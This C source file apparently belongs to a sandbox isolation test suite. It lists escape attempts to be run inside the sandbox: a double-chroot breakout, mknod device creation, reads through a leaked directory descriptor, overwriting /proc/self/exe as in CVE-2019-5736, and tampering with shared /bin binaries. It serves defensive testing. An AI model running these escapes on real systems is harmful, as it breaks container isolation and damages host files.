/* Attempts on files of others: out of the root, through descriptors and devices, and on the base that all share. */
#include "attacks.h"

#define SECRET "/tmp/machine.secret"
#define DEPTH 64u
#define PANEL 0xf005u

static int make_secret(void)
{
    make_file(SECRET, "secret\n");
    return 0;
}

static int remove_secret(void) { return unlink(SECRET) != 0; }

/* A second root below leaves the current directory outside of it. */
static int climb(void)
{
    mkdir("/tmp/cell", 0755);
    chroot("/tmp/cell");
    for (u32 n = 0; n < DEPTH; n++)
        chdir("..");
    chroot(".");
    return open(SECRET, O_RDONLY, 0) >= 0;
}

static int make_device(void)
{
    char byte;
    int file;

    if (mknod("/tmp/panel", S_IFCHR | 0666, PANEL))
        return 0;
    file = (int)open("/tmp/panel", O_RDONLY, 0);
    return file >= 0 && read(file, &byte, 1) >= 0;
}

static int give_directory(void)
{
    make_secret();
    given = (int)open("/tmp", O_RDONLY | O_DIRECTORY, 0);
    return given < 0;
}

static int use_directory(void)
{
    return openat(given, "machine.secret", O_RDONLY, 0) >= 0 || openat(given, "../etc/motd", O_RDONLY, 0) >= 0 || fchdir(given) == 0;
}

static int is_program(const char *path)
{
    char magic[4] = "";
    int file = (int)open(path, O_RDONLY, 0);

    read(file, magic, sizeof magic);
    close(file);
    return memcmp(magic, "\177ELF", 4) == 0;
}

/* The program that both run, as runc's was overwritten (CVE-2019-5736). */
static int overwrite_program(void)
{
    int file = (int)open("/proc/self/exe", O_WRONLY, 0);

    return file >= 0 && write(file, "#!/x", 4) == 4;
}

static int program_is_gone(void) { return !is_program("/bin/breakout"); }

/* All of this works, on the phone's own copies. */
static int change_base(void)
{
    int file = (int)open("/bin/true", O_WRONLY | O_TRUNC, 0);

    write(file, "#!/x\n", 5);
    close(file);
    unlink("/bin/false");
    rename("/bin/hello", "/bin/goodbye");
    return 0;
}

static int base_changed(void) { return !is_program("/bin/true") || !is_program("/bin/false") || !is_program("/bin/hello"); }

static int change_mode(void) { return fchmod((int)open("/bin/echo", O_RDONLY, 0), 0) == 0; }

static int mode_changed(void)
{
    struct stat64 stat;

    return stat64("/bin/echo", &stat) || !(stat.st_mode & 0111);
}

const struct attack file_attacks[] = {
    {.name = "chroot", .before = make_secret, .in_phone = climb, .after = remove_secret},
    {.name = "mknod", .in_phone = make_device},
    {.name = "directory", .before = give_directory, .in_phone = use_directory, .after = remove_secret},
    {.name = "exe", .in_phone = overwrite_program, .after = program_is_gone},
    {.name = "base", .in_phone = change_base, .after = base_changed},
    {.name = "mode", .in_phone = change_mode, .after = mode_changed},
    {.name = NULL},
};
